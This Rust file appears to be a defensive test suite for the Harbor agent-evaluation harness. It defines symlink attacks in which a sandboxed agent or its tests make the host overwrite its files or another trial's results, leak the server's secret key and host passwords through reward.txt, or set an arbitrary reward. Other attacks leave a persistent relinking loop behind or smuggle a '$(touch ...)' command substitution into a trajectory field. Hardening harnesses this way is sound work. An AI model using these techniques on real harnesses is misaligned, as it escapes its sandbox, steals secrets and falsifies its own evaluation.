//! Links that a sandbox leaves where Harbor opens files on the host.

use std::path::Path;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use serde_json::json;

use super::definition::Attack;
use super::machine::Machine;
use super::target::{Submission, Target};
use super::task::{HostileTask, unique};
use super::trial::Trial;
use super::verdict::Verdict;

const PATIENCE: Duration = Duration::from_mins(2);

/// What the host's file holds before the attack.
const UNTOUCHED: &str = "this file is the host's\n";

/// Where the program lies that Harbor takes for its agent `mini-swe-agent`.
pub(super) const MINI_SWE_AGENT: &str = "usr/local/bin/mini-swe-agent";

/// What makes Harbor write a trajectory of its own: the agent's, with words that the agent chose.
const TRAJECTORY: &str = r#"cat > /logs/agent/mini-swe-agent.trajectory.json <<'END'
{"info": {"mini_version": "2.0.0"}, "trajectory_format": "mini-swe-agent-1",
 "messages": [{"role": "system", "content": "s"}, {"role": "user", "content": "$(touch /tmp/words-of-the-agent)"}]}
END"#;

/// An agent that makes Harbor write through a link; `{host}` is what the link names.
struct Write {
    name: &'static str,
    tried: &'static str,
    quick: bool,
    agent: Agent,
    mounted: bool,
}

enum Agent {
    /// The task's own solution.
    Oracle(&'static str),
    /// A program that is taken for an installed agent.
    Installed(&'static str),
}

static WRITES: [Write; 3] = [
    Write {
        name: "trajectory-link",
        tried: "/logs/agent/trajectory.json links to a file of the host, for Harbor to write its trajectory through",
        quick: true,
        agent: Agent::Installed("ln -sf {host} /logs/agent/trajectory.json"),
        mounted: true,
    },
    Write {
        name: "trajectory-link-unmounted",
        tried: "the same with auto_mounting off, so that the link is copied out of the container",
        quick: false,
        agent: Agent::Installed("ln -sf {host} /logs/agent/trajectory.json"),
        mounted: false,
    },
    Write {
        name: "exit-code-link",
        tried: "/logs/agent/exit-code.txt links to a file of the host, for Harbor to write the oracle's exit status through",
        quick: true,
        agent: Agent::Oracle("ln -sf {host} /logs/agent/exit-code.txt; exit 77"),
        mounted: true,
    },
];

impl Write {
    /// Runs the agent with a link to `host`.
    fn run(&self, target: &Target, host: &Path) -> Result<Trial> {
        let host = host.to_string_lossy();
        let task = HostileTask::new("links");
        let (task, mut submission) = match self.agent {
            Agent::Oracle(script) => (task.solution(&script.replace("{host}", &host)), Submission::of("oracle")),
            Agent::Installed(script) => {
                let script = format!("{TRAJECTORY}\n{}", script.replace("{host}", &host));
                (task.program(MINI_SWE_AGENT, &script), Submission::of_installed("mini-swe-agent"))
            }
        };
        submission.harbor = json!({"environment": {"kwargs": {"auto_mounting": self.mounted}}});
        target.run(&task, &submission)
    }
}

/// Tests, or an agent's daemon, that make Harbor read a file of the host as the reward.
struct Read {
    name: &'static str,
    tried: &'static str,
    quick: bool,
    /// What the file holds; `{secret}` is what must not come out.
    content: &'static str,
    script: &'static str,
    /// Whether the agent leaves it behind, and the tests are honest.
    by_agent: bool,
}

static READS: [Read; 3] = [
    Read {
        name: "reward-link",
        tried: "/logs/verifier/reward.txt links to a file of the host, for Harbor to say what is in it that is no number",
        quick: true,
        content: "password = {secret}\n",
        script: "ln -sf {host} /logs/verifier/reward.txt",
        by_agent: false,
    },
    Read {
        name: "reward-json-link",
        tried: "/logs/verifier/reward.json links to a file of the host with JSON in it",
        quick: false,
        content: "{\"auths\": {\"registry.example\": {\"auth\": \"{secret}\"}}}",
        script: "ln -sf {host} /logs/verifier/reward.json",
        by_agent: false,
    },
    Read {
        name: "reward-link-renewed",
        tried: "the tests are honest, but a process that the agent left makes reward.txt a link to a file of the host again and again",
        quick: false,
        content: "password = {secret}\n",
        script: "setsid bash -c 'while :; do ln -sf {host} /logs/verifier/.next && mv -fT /logs/verifier/.next /logs/verifier/reward.txt; done' \
                 >/dev/null 2>&1 &",
        by_agent: true,
    },
];

impl Read {
    fn task(&self, host: &Path) -> HostileTask {
        let task = HostileTask::new("links");
        let script = self.script.replace("{host}", &host.to_string_lossy());
        if self.by_agent {
            task.solution(&script).tests("sleep 1; echo 0 > /logs/verifier/reward.txt")
        } else {
            task.tests(&script)
        }
    }
}

/// The attacks of this file.
pub(super) fn attacks() -> Vec<Attack> {
    let writes = WRITES.iter().map(|write| {
        let attack = move |machine: &Machine, target: &Target| write_to_host(machine, target, write);
        Attack::shared(write.name, write.tried, attack).quick(write.quick)
    });
    let reads = READS.iter().map(|read| {
        let attack = move |machine: &Machine, target: &Target| read_from_host(machine, target, read);
        Attack::shared(read.name, read.tried, attack).quick(read.quick)
    });
    let others = [
        Attack::shared(
            "other-result-link",
            "trajectory.json links to the stored result.json of another trial",
            replace_other_result,
        ),
        Attack::shared(
            "reward-number-link",
            "reward.txt links to a file of the host that holds a number, which then is the reward",
            take_number_for_reward,
        ),
        Attack::shared("secret-key-link", "reward.txt links to the server's secret key", read_secret_key).quick(true),
        Attack::shared(
            "server-log-descriptor-link",
            "reward.txt links to /proc/<server>/fd/1, what the server prints into",
            read_server_log,
        ),
        Attack::shared(
            "chmod-link",
            "links to a file of the host lie in all folders of logs while Harbor prepares them, moves them and changes their modes",
            change_mode,
        ),
    ];
    writes.chain(reads).chain(others).collect()
}

fn write_to_host(machine: &Machine, target: &Target, write: &Write) -> Result<Verdict> {
    let host = machine.host_file(UNTOUCHED)?;
    let trial = write.run(target, &host)?;
    let state = trial.ended(PATIENCE)?;
    let now = std::fs::read(&host).with_context(|| format!("can't read {}", host.display()))?;
    let changed = (now != UNTOUCHED.as_bytes()).then(|| {
        let begin = String::from_utf8_lossy(&now[..now.len().min(40)]).replace('\n', " ");
        format!("the host's file of {} bytes now has {}: {begin}", UNTOUCHED.len(), now.len())
    });
    trial.verdict(changed, &state)
}

fn read_from_host(machine: &Machine, target: &Target, read: &Read) -> Result<Verdict> {
    let secret = unique("password");
    let host = machine.host_file(&read.content.replace("{secret}", &secret))?;
    let trial = target.run(&read.task(&host), &Submission::of("oracle"))?;
    let state = trial.ended(PATIENCE)?;
    let leak = trial.leak(&secret)?.map(|place| format!("what the host's file holds is in {place}"));
    trial.verdict(leak, &state)
}

fn replace_other_result(_: &Machine, target: &Target) -> Result<Verdict> {
    let other = target.run(&HostileTask::new("honest"), &Submission::of("oracle"))?;
    let state = other.ended(PATIENCE)?;
    ensure!(state.reward == Some(1.0), "the other trial did not end as it should: {}", state.told());
    let result = other.stored().join("attempt-1/result.json");
    let before = std::fs::read(&result).context("the other trial has no result.json in the store")?;
    let attack = &WRITES[0];
    let trial = attack.run(target, &result)?;
    let state = trial.ended(PATIENCE)?;
    let after = std::fs::read(&result).context("the other trial's result.json is gone")?;
    let replaced = (before != after).then(|| {
        format!("result.json of another trial: {} bytes became {} of the attacker's", before.len(), after.len())
    });
    trial.verdict(replaced, &state)
}

fn take_number_for_reward(machine: &Machine, target: &Target) -> Result<Verdict> {
    let number = 1000.0 + f64::from(std::process::id() % 1000) / 8.0;
    let host = machine.host_file(&format!("{number}\n"))?;
    let link = format!("ln -sf {} /logs/verifier/reward.txt", host.display());
    let trial = target.run(&HostileTask::new("links").tests(&link), &Submission::of("oracle"))?;
    let state = trial.ended(PATIENCE)?;
    let taken =
        (state.reward == Some(number)).then(|| format!("the number in the host's file is the reward: {number}"));
    trial.verdict(taken, &state)
}

fn read_secret_key(_: &Machine, target: &Target) -> Result<Verdict> {
    let file = target.folder.join("home/secret-key");
    let secret = std::fs::read_to_string(&file).with_context(|| format!("can't read {}", file.display()))?;
    let link = format!("ln -sf {} /logs/verifier/reward.txt", file.display());
    let trial = target.run(&HostileTask::new("links").tests(&link), &Submission::of("oracle"))?;
    let state = trial.ended(PATIENCE)?;
    let leak = trial.leak(secret.trim())?.map(|place| format!("the server's secret key is in {place}"));
    trial.verdict(leak, &state)
}

fn read_server_log(_: &Machine, target: &Target) -> Result<Verdict> {
    let link = format!("ln -sf /proc/{}/fd/1 /logs/verifier/reward.txt", target.stack.server());
    let trial = target.run(&HostileTask::new("links").tests(&link), &Submission::of("oracle"))?;
    let state = trial.ended(PATIENCE)?;
    let said = format!("listening on http://127.0.0.1:{}", target.stack.port());
    let leak = trial.leak(&said)?.map(|place| format!("what the server printed is in {place}"));
    trial.verdict(leak, &state)
}

/// The task has two steps, so that Harbor moves the logs of the first away before the second.
fn change_mode(machine: &Machine, target: &Target) -> Result<Verdict> {
    use std::os::unix::fs::PermissionsExt as _;

    let host = machine.host_file(UNTOUCHED)?;
    let mode = || std::fs::metadata(&host).map(|metadata| metadata.permissions().mode() & 0o7777);
    std::fs::set_permissions(&host, std::fs::Permissions::from_mode(0o600)).context("can't change a mode")?;
    let links = format!(
        "for folder in agent verifier artifacts; do mkdir -p /logs/$folder/sub; chmod 7777 /logs/$folder/sub\n\
         for name in setup command-0 sub/file trajectory.json; do ln -sfn {} /logs/$folder/$name; done; done",
        host.display()
    );
    let task = HostileTask::new("links").steps(&links);
    let trial = target.run(&task, &Submission::of("oracle"))?;
    let state = trial.ended(PATIENCE)?;
    let now = mode().context("the host's file is gone")?;
    trial.verdict((now != 0o600).then(|| format!("the mode of the host's file became {now:o}")), &state)
}
